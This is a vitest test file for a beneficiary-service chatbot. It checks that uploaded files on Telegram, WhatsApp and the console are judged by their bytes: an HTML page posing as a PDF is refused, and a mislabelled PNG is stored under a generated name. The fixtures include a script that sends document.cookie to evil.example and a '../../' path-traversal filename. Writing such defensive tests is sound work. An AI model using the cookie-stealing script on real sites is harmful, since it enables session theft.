/**
 * Files from beneficiaries are judged by their bytes on every channel, whatever name and MIME type
 * the sender claims: an HTML page sent as "deed.pdf" is refused politely and not kept; a file that
 * is accepted is stored under a name Sila makes, in the chat's own folder. Through Telegram (Bot
 * API on 127.0.0.1), WhatsApp (fake client) and the console's `/file` line.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { parseConsoleLine } from "../bot/channels/console";
import { validNationalId } from "./helpers";
import type { FakeUser } from "./telegram/fake-bot-api";
import { createWorld, tgText, waText, type World } from "./security/world";

const HTML = Buffer.from("<!doctype html><html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>");
const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(200, 7)]);
const REFUSED = "نوع الملف غير مقبول";

let world: World | null = null;
afterEach(async () => {
  await world?.close();
  world = null;
});

function filesUnder(dir: string): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? filesUnder(path.join(dir, e.name)) : [path.join(dir, e.name)]));
}

/** Up to the deed question of the tank-installation form, by typed answers. */
async function toDeedQuestion(say: (text: string) => Promise<string>, mobile: string | null): Promise<string> {
  await say("السلام عليكم");
  await say("1");
  await say("1");
  await say("1");
  await say("نورة عبدالله الشهري");
  await say(validNationalId(6161616));
  await say(mobile ?? "1");
  await say("بريدة");
  await say("1410/05/20");
  await say("4");
  return say("1");
}

describe("a file whose bytes are not what it claims", () => {
  it("on Telegram: an HTML page sent as a PDF is refused politely and not kept; a PNG called JPEG is taken as a PNG under a made-up name", async () => {
    const w = (world = await createWorld());
    const user: FakeUser = { id: 5901, first_name: "نورة", language_code: "ar" };
    const say = async (text: string) => tgText(await w.tg(user, text));
    expect(await toDeedQuestion(say, "0551112233")).toContain("صك الملكية");

    const refused = tgText(await w.tgTurn(user.id, () => w.api.sendDocument(user, { bytes: HTML, name: "deed.pdf", mime: "application/pdf" })));
    expect(refused).toContain(REFUSED);
    expect(refused).toContain("صك الملكية"); // asked again
    expect(filesUnder(path.join(w.dir, "attachments"))).toEqual([]);

    const taken = tgText(await w.tgTurn(user.id, () => w.api.sendDocument(user, { bytes: PNG, name: "../../نورة-هوية.jpg", mime: "image/jpeg" })));
    expect(taken).not.toContain(REFUSED);
    const [stored] = filesUnder(path.join(w.dir, "attachments"));
    expect(path.basename(stored!)).toMatch(/^[0-9a-f-]{36}\.png$/);
    expect(fs.readFileSync(stored!)).toEqual(PNG);
    const session = await w.opened.db.selectFrom("sessions").select("state").executeTakeFirstOrThrow();
    expect(session.state).toContain('"mimeType":"image/png"');
  });

  it("on WhatsApp: an HTML page sent as a PDF is refused politely and not kept", async () => {
    const w = (world = await createWorld());
    const chat = "966552223344@c.us";
    const contact = { id: { _serialized: chat }, number: "966552223344", pushname: "نورة" };
    const say = async (text: string) => waText(await w.wa(chat, text, contact));
    expect(await toDeedQuestion(say, null)).toContain("صك الملكية");
    const refused = waText(
      await w.wa(chat, { type: "document", body: "", media: { mimetype: "application/pdf", data: HTML.toString("base64"), filename: "deed.pdf" } }, contact),
    );
    expect(refused).toContain(REFUSED);
    expect(filesUnder(path.join(w.dir, "attachments"))).toEqual([]);
  });

  it("on the console: a /file line is judged by the file's bytes, not its name", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "sila-console-file-"));
    const page = path.join(dir, "deed.pdf");
    fs.writeFileSync(page, HTML);
    expect(parseConsoleLine(`/file ${page}`)).toMatchObject({ kind: "media", mimeType: "application/octet-stream" });
  });
});
